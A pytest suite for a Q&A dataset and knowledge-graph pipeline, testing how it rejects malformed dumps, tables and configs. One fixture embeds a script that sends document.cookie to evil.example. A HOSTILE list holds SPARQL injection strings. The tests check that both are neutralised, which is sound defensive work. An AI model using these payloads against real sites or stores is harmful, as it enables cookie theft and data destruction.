"""Bad input battery: every malformed file, row or setting fails with a message naming it, or is skipped and
counted in the dataset summary. One test per case; docs/reliability.md lists them with the cases
covered elsewhere (missing dump file: tests/test_data_pipeline.py; SPARQL escaping of hostile strings:
tests/test_knowledge_sparql.py; mistyped keys on the train.py command line: tests/test_train.py)."""

from __future__ import annotations

import base64
import json
from dataclasses import asdict
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import torch
import yaml

from graphctx.cli import main as cli_main
from graphctx.data import DatasetSettings, FilterSettings, SplitSettings, prepare_qa_dataset
from graphctx.data.build import max_token_chars
from graphctx.data.filters import QuestionFilter
from graphctx.data.instruct import encode_example, get_template
from graphctx.errors import ConfigError, DataError
from graphctx.knowledge.settings import KnowledgeSettings
from graphctx.knowledge.store import LocalKnowledgeGraph
from graphctx.model import ModelSpec, resolve_source
from graphctx.pipeline.config_file import check_devices, load_config

REPO_ROOT = Path(__file__).resolve().parents[1]
TINY = REPO_ROOT / "configs" / "tiny.yaml"
ANSWER = "Run &lt;code&gt;sudo systemctl restart nginx&lt;/code&gt; and check the journal for errors."


def row(post_id: int, kind: int, **attributes: object) -> str:
    """One ``<row .../>`` line of a Stack Exchange Posts.xml (attribute values already XML-escaped)."""
    return (
        f'  <row Id="{post_id}" PostTypeId="{kind}" '
        + " ".join(f'{k}="{v}"' for k, v in attributes.items())
        + " />\n"
    )


def good_pair(question_id: int, day: str, title: str, body: str = "&lt;p&gt;It hangs.&lt;/p&gt;") -> str:
    """A question with its accepted answer, both created on ``day``."""
    return row(
        question_id,
        1,
        AcceptedAnswerId=question_id + 1,
        CreationDate=f"{day}T00:00:00",
        Score=1,
        Title=title,
        Body=body,
        Tags="|nginx|",
    ) + row(question_id + 1, 2, ParentId=question_id, CreationDate=f"{day}T01:00:00", Score=2, Body=ANSWER)


BASE_ROWS = (
    good_pair(10, "2021-01-10", "How do I restart nginx on Ubuntu?")
    + good_pair(20, "2021-06-10", "Why does apt hang on a lock file?")
    + good_pair(30, "2021-07-10", "Where are systemd unit files kept?")
)  # one question per split


def write_dump(folder: Path, extra: bytes | str = b"") -> Path:
    """A Posts.xml with the three good questions plus ``extra`` rows; returns the dump folder."""
    extra = extra.encode() if isinstance(extra, str) else extra
    head = '<?xml version="1.0" encoding="utf-8"?>\n<posts>\n' + BASE_ROWS
    (folder / "Posts.xml").write_bytes(head.encode() + extra + b"</posts>\n")
    return folder


ANSWER_TEXT = "Run sudo systemctl restart nginx and check the journal for errors."


def table_row(question_id: int, created: object, **fields: object) -> dict[str, object]:
    """One row of a tabular Q&A source."""
    return {"id": question_id, "title": f"Question number {question_id}?", "answer": ANSWER_TEXT,
            "created": created, **fields}  # fmt: skip


def settings_for(folder: Path, **filters: object) -> DatasetSettings:
    settings = DatasetSettings(source=str(folder), filters=FilterSettings(**{"max_tokens": None, **filters}))
    settings.split = SplitSettings(
        train_start="2021-01-01", train_end="2021-06-01",
        validation_start="2021-06-01", validation_end="2021-07-01",
        test_start="2021-07-01", test_end="2021-08-01",
    )  # fmt: skip
    return settings


def all_ids(qa) -> set[int]:
    return {identifier for split in qa.values() for identifier in split["id"]}


def write_config(tmp_path: Path, edit) -> Path:
    config = yaml.safe_load(TINY.read_text())
    edit(config)
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(config))
    return path


# ---- data files ------------------------------------------------------------------------------------------
def test_truncated_posts_xml_names_file_and_line_and_caches_nothing(cardano_dir, tmp_path, cache_dir):
    whole = (cardano_dir / "Posts.xml").read_bytes()
    (tmp_path / "Posts.xml").write_bytes(whole[: len(whole) // 2])  # a download cut mid-row
    lines = whole[: len(whole) // 2].count(b"\n") + 1
    with pytest.raises(DataError, match=r"Posts\.xml: malformed XML at line (\d+)") as error:
        prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    assert str(tmp_path / "Posts.xml") in str(error.value)
    assert int(str(error.value).split("line ")[1].split(",")[0]) in (lines, lines + 1)
    assert not [p for p in (cache_dir / "datasets").iterdir() if not p.name.startswith(".")]


def test_non_utf8_bytes_name_file_line_and_column(tmp_path, cache_dir):
    latin1 = row(50, 1, CreationDate="2021-01-11T00:00:00", Title="Caf\xe9 wallet sync", Body="x")
    write_dump(tmp_path, latin1.encode("latin-1"))
    line = 3 + BASE_ROWS.count("\n")  # declaration, <posts>, the base rows, then this row
    with pytest.raises(DataError, match=rf"Posts\.xml: malformed XML at line {line}, column \d+: .*encoding"):
        prepare_qa_dataset(settings_for(tmp_path), cache_dir)


def test_rows_without_body_or_title_are_skipped_and_counted(tmp_path, cache_dir):
    no_body = row(40, 1, AcceptedAnswerId=41, CreationDate="2021-01-12T00:00:00", Title="No body at all here")
    no_title = row(
        42, 1, AcceptedAnswerId=41, CreationDate="2021-01-12T00:00:00", Body="&lt;p&gt;x&lt;/p&gt;"
    )
    write_dump(tmp_path, no_body + no_title + row(41, 2, ParentId=40, Body=ANSWER))
    qa, summary = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    assert summary["skipped_rows"] == 2
    assert all_ids(qa) == {10, 20, 30}


def test_accepted_answer_id_pointing_nowhere_is_removed_and_counted(tmp_path, cache_dir):
    dangling = row(
        60, 1, AcceptedAnswerId=999, CreationDate="2021-01-13T00:00:00",
        Title="Where did my accepted answer go?", Body="&lt;p&gt;Lost.&lt;/p&gt;",
    )  # fmt: skip
    write_dump(tmp_path, dangling)
    qa, summary = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    assert summary["questions"] == 4 and summary["with_accepted_answer"] == 3
    assert summary["removed_no_accepted_answer"] == 1
    assert 60 not in all_ids(qa)


def test_accepted_answer_of_another_question_is_removed_and_counted(tmp_path, cache_dir, capsys):
    """Question 40 accepts answer 21 (whose ParentId is 20), question 50 accepts answer 11, which question
    10 accepts too: neither is paired with another question's answer; 10 and 20 keep theirs."""
    stolen = "&lt;p&gt;Whose answer is this?&lt;/p&gt;"
    extra = row(
        40, 1, AcceptedAnswerId=21, CreationDate="2021-01-17T00:00:00", Title="Borrowed one", Body=stolen
    ) + row(
        50, 1, AcceptedAnswerId=11, CreationDate="2021-01-18T00:00:00", Title="Borrowed two", Body=stolen
    )  # fmt: skip
    write_dump(tmp_path, extra)
    qa, summary = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    assert summary["removed_answer_parent_mismatch"] == 2
    assert summary["with_accepted_answer"] == 3
    assert all_ids(qa) == {10, 20, 30}
    split = asdict(settings_for(tmp_path).split)
    config = write_config(tmp_path, lambda c: c["data"]["dataset"].update(split=split))
    command = [
        "data",
        str(tmp_path),
        "--config",
        str(config),
        "--no-token-limit",
        "--cache_dir",
        str(cache_dir),
    ]
    assert cli_main(command) == 0
    out = capsys.readouterr().out
    assert "removed: accepted answer of another question" in out
    assert json.loads(out.splitlines()[-1])["removed_answer_parent_mismatch"] == 2


def test_duplicate_post_ids_are_refused_listing_them(tmp_path, cache_dir):
    again = good_pair(20, "2021-01-19", "The same Id once more") + row(11, 2, ParentId=10, Body=ANSWER)
    write_dump(tmp_path, again)
    with pytest.raises(DataError, match=r"Posts\.xml: duplicate post Ids 11, 20, 21: each Id must name one"):
        prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    assert not [p for p in (cache_dir / "datasets").iterdir() if not p.name.startswith(".")]


def test_script_tags_and_huge_inline_images_are_cleaned_away(tmp_path, cache_dir):
    image = base64.b64encode(bytes(1 << 20)).decode()  # a 1 MiB PNG inlined as a data: URI
    body = (
        "&lt;p&gt;My node crashes.&lt;/p&gt;&lt;script&gt;fetch('https://evil.example/?c='+document.cookie)"
        f"&lt;/script&gt;&lt;img src=&quot;data:image/png;base64,{image}&quot; alt=&quot;node log&quot;&gt;"
    )
    write_dump(tmp_path, good_pair(70, "2021-01-14", "Why does my node crash at start?", body))
    qa, _ = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    [question] = [r["question"] for r in qa["train"] if r["id"] == 70]
    assert "My node crashes." in question and "[image: node log]" in question
    assert "evil.example" not in question and "document.cookie" not in question
    assert "base64" not in question and len(question) < 200


def test_one_megabyte_answer_is_dropped_as_too_long_or_truncated_to_max_length(
    tmp_path, cache_dir, llama_tokenizer
):
    huge = "&lt;p&gt;" + "Restart the node and wait for it to sync. " * 25_000 + "&lt;/p&gt;"  # ~1 MB
    extra = row(
        80, 1, AcceptedAnswerId=81, CreationDate="2021-01-15T00:00:00",
        Title="How long does a full sync take?", Body="&lt;p&gt;Days?&lt;/p&gt;",
    ) + row(81, 2, ParentId=80, CreationDate="2021-01-15T01:00:00", Body=huge)  # fmt: skip
    write_dump(tmp_path, extra)
    qa, summary = prepare_qa_dataset(settings_for(tmp_path, max_tokens=1024), cache_dir, llama_tokenizer)
    assert summary["removed_too_long"] == 1 and 80 not in all_ids(qa)
    # With the length filter off the pair is kept, and training sees at most max_length tokens of it.
    qa, _ = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    [answer] = [r["answer"] for r in qa["train"] if r["id"] == 80]
    assert len(answer) > 1_000_000
    example = encode_example(llama_tokenizer, get_template("paper"), "How long?", answer, 256, 64)
    assert len(example["input_ids"]) == 256
    assert sum(label != -100 for label in example["labels"]) > 100  # the answer is cut, never dropped


def test_empty_question_is_skipped_and_counted(tmp_path, cache_dir):
    write_dump(tmp_path, good_pair(90, "2021-01-16", " ", "&lt;p&gt; &lt;/p&gt;"))
    qa, summary = prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    assert summary["removed_empty_question"] == 1
    assert 90 not in all_ids(qa) and all(r["question"].strip() for s in qa.values() for r in s)


def test_empty_dataset_after_filters_names_the_split_and_the_counts(tmp_path, cache_dir):
    write_dump(tmp_path)
    with pytest.raises(DataError, match=r"split 'train' is empty.*removed_short_answer=3"):
        prepare_qa_dataset(settings_for(tmp_path, min_answer_chars=10_000), cache_dir)


def test_unpadded_may_date_lands_in_train_not_test(tmp_path, cache_dir):
    """``2021-5-10`` compared as text sorts after ``2021-10-15``: before dates were parsed, this May question
    landed in the test split."""
    may = row(
        100, 1, AcceptedAnswerId=101, CreationDate="2021-5-10T10:00:00", Title="An unpadded May question",
        Body="&lt;p&gt;When?&lt;/p&gt;",
    ) + row(101, 2, ParentId=100, CreationDate="2021-5-10 11:00", Body=ANSWER)  # fmt: skip
    write_dump(tmp_path, may)
    settings = settings_for(tmp_path)
    settings.split.test_end = "2022-01-01"
    qa, _ = prepare_qa_dataset(settings, cache_dir)
    assert 100 in qa["train"]["id"] and 100 not in qa["test"]["id"]
    [stored] = [r for r in qa["train"] if r["id"] == 100]
    assert (stored["created"], stored["answer_created"]) == (
        "2021-05-10T10:00:00.000000+00:00",
        "2021-05-10T11:00:00.000000+00:00",
    )


def test_dates_in_tables_in_any_iso_form_or_epoch_integers(tmp_path, cache_dir):
    created = {
        1: "2021-5-1T10:00:00",
        2: "2021-05-01 10:00",
        3: "2021-06-10T23:30:00-02:00",  # 2021-06-11 01:30 UTC
        4: "2021-07-10T00:00:00Z",
    }
    path = tmp_path / "pairs.jsonl"
    path.write_text("\n".join(json.dumps(table_row(i, day)) for i, day in created.items()))
    qa, _ = prepare_qa_dataset(settings_for(path), cache_dir)
    assert (qa["train"]["id"], qa["validation"]["id"], qa["test"]["id"]) == ([1, 2], [3], [4])
    assert qa["validation"][0]["created"] == "2021-06-11T01:30:00.000000+00:00"
    epochs = [table_row(1, 1_610_000_000), table_row(2, 1_623_000_000_000), table_row(3, 1_626_000_000)]
    path = tmp_path / "pairs.parquet"  # epoch seconds (Jan 7, Jul 11) and milliseconds (Jun 6)
    pq.write_table(pa.Table.from_pylist(epochs), path)
    qa, _ = prepare_qa_dataset(settings_for(path), cache_dir)
    assert (qa["train"]["id"], qa["validation"]["id"], qa["test"]["id"]) == ([1], [2], [3])
    assert qa["validation"][0]["created"] == "2021-06-06T17:20:00.000000+00:00"


def test_date_that_is_not_iso_names_file_row_and_value(tmp_path, cache_dir):
    path = tmp_path / "pairs.csv"
    path.write_text(
        "id,title,answer,created\n"
        f"10,How do I restart nginx?,{ANSWER_TEXT},2021-01-10\n"
        f"11,Why does apt hang?,{ANSWER_TEXT},06/01/2021 10:00\n"
    )
    with pytest.raises(
        DataError, match=r"pairs\.csv: row 2 \(id 11\), column 'created': '06/01/2021 10:00': not"
    ):
        prepare_qa_dataset(settings_for(path), cache_dir)
    write_dump(tmp_path, row(40, 1, CreationDate="06/01/2021 10:00", Title="A US date", Body="x"))
    with pytest.raises(DataError, match=r"Posts\.xml: row Id=40: CreationDate '06/01/2021 10:00': not an"):
        prepare_qa_dataset(settings_for(tmp_path), cache_dir)
    assert not [p for p in (cache_dir / "datasets").iterdir() if not p.name.startswith(".")]


def test_split_bounds_must_be_dates_in_order_without_overlap(tmp_path, cache_dir):
    write_dump(tmp_path)
    cases = {
        "test_start": ("20211015", r"data\.dataset\.split\.test_start: '20211015': not an ISO 8601 date"),
        "train_end": (
            "2020-12-01",
            r"split\.train_start \(2021-01-01\) is not before data\.dataset\.split\.train_end \(2020-12-01\)",
        ),
        "validation_start": (
            "2021-5-15",
            r"split\.train_end \(2021-06-01\) is after data\.dataset\.split\.validation_start \(2021-5-15\)",
        ),
    }
    for key, (value, message) in cases.items():
        settings = settings_for(tmp_path)
        setattr(settings.split, key, value)
        with pytest.raises(ConfigError, match=message):
            prepare_qa_dataset(settings, cache_dir)
    # train placed after test, no overlap: the pool would be newer than the questions it answers
    settings = settings_for(tmp_path)
    split = settings.split
    split.train_start, split.train_end = "2021-08-01", "2021-09-01"
    with pytest.raises(ConfigError, match=r"run validation \(2021-06-01\) → test \(2021-07-01\) → train "):
        prepare_qa_dataset(settings, cache_dir)


# ---- tables ----------------------------------------------------------------------------------------------
def write_jsonl(path: Path, rows: list[dict[str, object]]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def test_a_negative_question_id_is_refused_naming_the_row(tmp_path, cache_dir):
    days = ["2021-01-10", "2021-06-10", "2021-07-10", "2021-01-11"]
    path = write_jsonl(
        tmp_path / "pairs.jsonl", [table_row(i, day) for i, day in zip([1, 2, -1, 4], days, strict=True)]
    )
    with pytest.raises(DataError) as error:
        prepare_qa_dataset(settings_for(path), cache_dir)
    assert str(error.value) == (
        f"{path}: row 3 (id -1), column 'id': question id -1 is negative; use ids >= 0"
    )
    assert not [p for p in (cache_dir / "datasets").iterdir() if not p.name.startswith(".")]


def test_duplicate_question_ids_in_a_table_are_listed(tmp_path, cache_dir):
    days = ["2021-01-10", "2021-06-10", "2021-07-10", "2021-01-11", "2021-01-12", "2021-06-11"]
    ids = [1, 2, 3, 2, 7, 7]
    path = write_jsonl(
        tmp_path / "pairs.jsonl", [table_row(i, day) for i, day in zip(ids, days, strict=True)]
    )
    with pytest.raises(DataError, match=r"pairs\.jsonl: column 'id': duplicate question ids 2, 7$"):
        prepare_qa_dataset(settings_for(path), cache_dir)
    assert not [p for p in (cache_dir / "datasets").iterdir() if not p.name.startswith(".")]


def test_table_cell_of_the_wrong_type_names_row_and_column(tmp_path, cache_dir):
    path = tmp_path / "pairs.csv"
    path.write_text(
        "id,title,answer,created,score\n"
        f"10,How do I restart nginx?,{ANSWER_TEXT},2021-01-10,3\n"
        f"11,Why does apt hang?,{ANSWER_TEXT},2021-06-10,high\n"
    )
    with pytest.raises(
        DataError, match=r"pairs\.csv: row 2 \(id 11\), column 'score': 'high': expected an int"
    ):
        prepare_qa_dataset(settings_for(path), cache_dir)
    rows = [table_row(1, "2021-01-10", tags=["nginx"]), table_row(2, "2021-06-10", tags=[4, 5])]
    path = write_jsonl(tmp_path / "pairs.jsonl", rows)
    with pytest.raises(
        DataError, match=r"pairs\.jsonl: row 2 \(id 2\), column 'tags': \[4, 5\]: expected a list"
    ):
        prepare_qa_dataset(settings_for(path), cache_dir)


def test_missing_or_unknown_mapped_columns_are_named(tmp_path, cache_dir):
    path = write_jsonl(tmp_path / "pairs.jsonl", [table_row(1, "2021-01-10")])
    settings = settings_for(path)
    settings.column_mapping = {"body": "text"}  # the table has no column 'text'
    with pytest.raises(DataError, match=r"pairs\.jsonl: missing columns body \(column 'text'\); available"):
        prepare_qa_dataset(settings, cache_dir)
    settings.column_mapping = {"answr": "answer"}
    with pytest.raises(ConfigError, match=r"data\.dataset\.column_mapping\.answr: unknown field 'answr'"):
        prepare_qa_dataset(settings, cache_dir)
    path = write_jsonl(tmp_path / "no-date.jsonl", [{"id": 1, "title": "What?", "answer": ANSWER_TEXT}])
    with pytest.raises(DataError, match=r"no-date\.jsonl: missing columns created \(column 'created'\)"):
        prepare_qa_dataset(settings_for(path), cache_dir)


@pytest.mark.parametrize(("name", "text"), [("empty.csv", ""), ("header.csv", "id,title,answer,created\n"),
                                            ("empty.jsonl", "\n")])  # fmt: skip
def test_empty_or_header_only_table_is_named(tmp_path, cache_dir, name, text):
    (tmp_path / name).write_text(text)
    with pytest.raises(
        DataError, match=rf"{name}: the table has no rows \(an empty file, or a header only\)"
    ):
        prepare_qa_dataset(settings_for(tmp_path / name), cache_dir)


def test_thirty_megabyte_body_is_too_long_by_characters_before_tokenising(
    tmp_path, cache_dir, llama_tokenizer
):
    bound = 1024 * max_token_chars(llama_tokenizer)
    assert bound < 100_000  # Llama's longest piece is a few dozen characters at most
    days = [(1, "2021-01-10"), (2, "2021-06-10"), (3, "2021-07-10")]
    rows = [table_row(i, day, body="It hangs.") for i, day in days]
    rows.append(table_row(4, "2021-01-11", body="Restart the node. " * (30_000_000 // 18)))
    path = tmp_path / "pairs.parquet"
    pq.write_table(pa.Table.from_pylist(rows), path)
    qa, summary = prepare_qa_dataset(settings_for(path, max_tokens=1024), cache_dir, llama_tokenizer)
    assert summary["removed_too_long"] == 1 and all_ids(qa) == {1, 2, 3}

    def never_called(text: str) -> int:
        raise AssertionError(f"tokenised {len(text)} characters")

    keep = QuestionFilter(FilterSettings(max_tokens=1024), never_called, max_token_chars(llama_tokenizer))
    assert keep.reject_text("t", "x" * (bound + 1), ANSWER_TEXT, ANSWER_TEXT) == "too_long"


# ---- configuration ---------------------------------------------------------------------------------------
def test_config_value_of_the_wrong_type_names_the_key(tmp_path):
    path = write_config(tmp_path, lambda c: c["retrieval"].update(top_k="two"))
    with pytest.raises(ConfigError, match=r"retrieval\.top_k") as error:
        load_config(path)
    assert str(path) in str(error.value)


@pytest.mark.parametrize(
    ("section", "key", "value"),
    [
        ("retrieval.scale", "ppr_eps", float("inf")),
        ("retrieval.scale", "ppr_eps", float("nan")),
        ("retrieval", "alpha", float("-inf")),
        ("retrieval", "threshold", float("nan")),
        ("knowledge", "sparql_max_failure_share", float("nan")),
    ],
)
def test_a_float_setting_that_is_nan_or_inf_is_refused_in_one_line(tmp_path, section, key, value):
    def put(config: dict) -> None:
        for part in section.split("."):
            config = config.setdefault(part, {})
        config[key] = value

    path = write_config(tmp_path, put)
    with pytest.raises(ConfigError) as error:
        load_config(path)
    assert "\n" not in str(error.value) and f"{section}.{key}: must be a finite number, got {value!r}" in str(
        error.value
    )


def test_config_unknown_key_is_named(tmp_path):
    path = write_config(tmp_path, lambda c: c["knowledge"].update(backnd="local"))
    with pytest.raises(ConfigError, match="backnd"):
        load_config(path)


@pytest.mark.parametrize(
    ("extractors", "problem"),
    [([], "empty"), (["spacy", "openie"], r"unknown \['openie'\]"), (["llm", "llm"], "a name is repeated")],
)
def test_config_bad_extractor_list_names_the_key(tmp_path, extractors, problem):
    path = write_config(tmp_path, lambda c: c["knowledge"].update(extractors=extractors))
    with pytest.raises(ConfigError, match=rf"knowledge\.extractors: {problem}"):
        load_config(path)


def test_config_removed_extractor_key_is_named(tmp_path):
    path = write_config(tmp_path, lambda c: c["knowledge"].update(extractor="rebel"))  # now extractors: [...]
    with pytest.raises(ConfigError, match="does not accept option 'extractor'"):
        load_config(path)


def test_missing_model_path_names_the_setting(tmp_path):
    with pytest.raises(ConfigError, match=r"model\.spec\.source: .*absent.* does not exist"):
        resolve_source(ModelSpec(source=str(tmp_path / "absent")))
    (tmp_path / "not-a-model").mkdir()
    with pytest.raises(ConfigError, match=r"model\.spec\.source: folder .*not-a-model has no config\.json"):
        resolve_source(ModelSpec(source=str(tmp_path / "not-a-model")))


@pytest.mark.skipif(torch.cuda.is_available(), reason="this machine has a GPU")
@pytest.mark.parametrize(
    ("section", "key", "value"),
    [
        ("trainer", "accelerator", "gpu"),
        ("retrieval", "device", "cuda"),
        ("knowledge", "device", "cuda:1"),
        ("evaluation", "callback_device", "cuda"),  # every *_device, not only keys named device
    ],
)
def test_gpu_requested_on_a_cpu_only_machine_names_the_setting(tmp_path, capsys, section, key, value):
    from train import main as train_main

    path = write_config(tmp_path, lambda c: c[section].update({key: value}))
    with pytest.raises(ConfigError, match=rf"{section}\.{key}: '{value}' asks for a GPU"):
        load_config(path)
    assert train_main(["--config", str(path)]) == 1
    assert f"{section}.{key}: '{value}' asks for a GPU" in capsys.readouterr().err


def test_a_cuda_device_beyond_those_present_names_the_setting():
    config = {"evaluation": {"metrics": {"autoais": {"device": "cuda:1"}}, "callback_device": "cuda:2"}}
    check_devices(config["evaluation"]["metrics"], "evaluation.metrics.", present=2)  # cuda:1 of 2: fine
    with pytest.raises(ConfigError, match=r"^evaluation\.callback_device: 'cuda:2' asks for a GPU this "):
        check_devices(config, present=2)
    with pytest.raises(ConfigError, match=r"retrieval\.device: 'cuda:x' asks for a GPU this machine lacks"):
        check_devices({"retrieval": {"device": "cuda:x"}}, present=1)
    check_devices({"retrieval": {"device": "cpu"}, "trainer": {"accelerator": "cpu"}}, present=0)


@pytest.mark.parametrize("text", ["- trainer\n- model\n", "just a string\n", ""])
def test_yaml_that_is_not_a_mapping_is_refused(tmp_path, capsys, text):
    from train import main as train_main

    path = tmp_path / "list.yaml"
    path.write_text(text)
    with pytest.raises(ConfigError, match=rf"{path}: a config must be a YAML mapping"):
        load_config(path)
    assert train_main(["--config", str(path)]) == 1
    assert f"{path}: a config must be a YAML mapping" in capsys.readouterr().err


def test_yaml_syntax_error_names_the_file(tmp_path):
    path = tmp_path / "broken.yaml"
    path.write_text("trainer:\n  max_steps: [1, 2\n")
    with pytest.raises(ConfigError, match=rf"{path}: not valid YAML"):
        load_config(path)


# ---- knowledge graph -------------------------------------------------------------------------------------
HOSTILE = [
    'x" } ; DROP ALL ; #',
    "x' . ?s ?p ?o } #",
    "}} UNION { ?s ?p ?o }",
    "\\u0022) } INSERT DATA { <a> <b> <c> }",
    "nginx\n} SELECT * WHERE { ?s ?p ?o",
]


def test_hostile_text_reaches_the_local_kg_only_as_a_literal(tmp_path):
    """End to end through the embedded store: each hostile string matches only a node labelled with exactly
    that string, nothing is added or removed, and no query fails (escaping itself: test_knowledge_sparql)."""
    label = "http://www.w3.org/2000/01/rdf-schema#label"
    kg_file = tmp_path / "kg.nt"
    lines = [f'<http://example.org/n{i}> <{label}> "{text}"@en .' for i, text in enumerate(["nginx"])]
    lines.append(
        f'<http://example.org/evil> <{label}> "{HOSTILE[0].replace(chr(34), chr(92) + chr(34))}"@en .'
    )
    kg_file.write_text("\n".join(lines) + "\n")
    kg = LocalKnowledgeGraph.from_settings(
        KnowledgeSettings(kg_dir="", ntriples=[str(kg_file)], cache_dir=str(tmp_path / "cache"))
    )
    before = len(kg.store)
    links = kg.link(HOSTILE)
    linked = [node for nodes in links.values() for node in nodes]
    assert linked == ["http://example.org/evil"]  # only the node with exactly that label
    assert kg.one_hop(linked) == [] and len(kg.store) == before
    for text in HOSTILE:  # as a node id, hostile text is refused, never spliced into a query
        with pytest.raises(ValueError, match="not a safe absolute IRI"):
            kg.one_hop([text])
    assert len(kg.store) == before


def test_an_unknown_callback_metric_is_refused_by_plan_and_config_load(tmp_path, capsys):
    path = write_config(tmp_path, lambda c: c["evaluation"].update(callback_metrics=["nosuch"]))
    with pytest.raises(ConfigError, match=r"evaluation\.callback_metrics: unknown metric\(s\) \['nosuch'\]"):
        load_config(path)
    assert cli_main(["plan", "--config", str(path)]) == 1
    (line,) = capsys.readouterr().err.strip().splitlines()
    assert line.startswith("error: ") and "evaluation.callback_metrics: unknown metric(s) ['nosuch']" in line
